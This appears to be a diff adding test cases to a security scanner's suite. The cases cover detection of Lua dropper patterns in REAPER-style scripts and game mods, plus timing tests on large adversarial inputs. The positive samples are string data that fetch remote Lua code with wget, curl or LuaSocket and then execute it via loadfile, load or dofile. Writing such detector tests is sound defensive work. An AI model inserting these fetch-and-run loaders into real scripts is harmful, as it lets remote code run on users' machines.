@@ -413,3 +413,38 @@ describe('adversarial auto-run macro text', () => {
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
+
+describeRuleCases('dropper (Lua loaders)', [
+  {
+    id: 'SG-DROPPER-014',
+    // A REAPER-style script: a plugin fetched with wget through io.popen, then loadfile-d.
+    file: 'Scripts/sync_marks.lua',
+    positive:
+      'local target = reaper.GetResourcePath() .. "/Scripts/ext/rules.lua"\nlocal h = io.popen("wget -q -O \\"" .. target .. "\\" " .. base_url .. "/rules.lua")\nh:close()\nlocal chunk = loadfile(target)\nif chunk then chunk() end\n',
+    // The rules module ships with the skill (a literal require); only marker data is fetched.
+    negative:
+      'local rules = require("ext.rules")\nlocal h = io.popen("wget -q -O \\"" .. dump .. "\\" " .. base_url .. "/markers.json")\nh:close()\nrules.apply(dump)\n',
+  },
+  {
+    id: 'SG-DROPPER-014',
+    // LuaSocket body loaded as a string (a game mod's "hot patch").
+    file: 'mods/hotpatch/init.lua',
+    positive:
+      'local http = require("socket.http")\nlocal body, code = http.request(PATCH_HOST .. "/current")\nif code == 200 then\n  local fn = load(body)\n  fn()\nend\n',
+    negative:
+      'local http = require("socket.http")\nlocal body, code = http.request(PATCH_HOST .. "/current")\nif code == 200 then\n  local t = json.decode(body)\n  print(t.version)\nend\n',
+  },
+]);
+
+describe('adversarial Lua loaders', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['dofile calls', 'os.execute("curl -o x.lua u")\n' + 'dofile('.repeat(MiB / 7)],
+    ['require words', 'io.popen("wget x.lua")\n' + 'require ( '.repeat(MiB / 10)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'scripts/x.lua');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
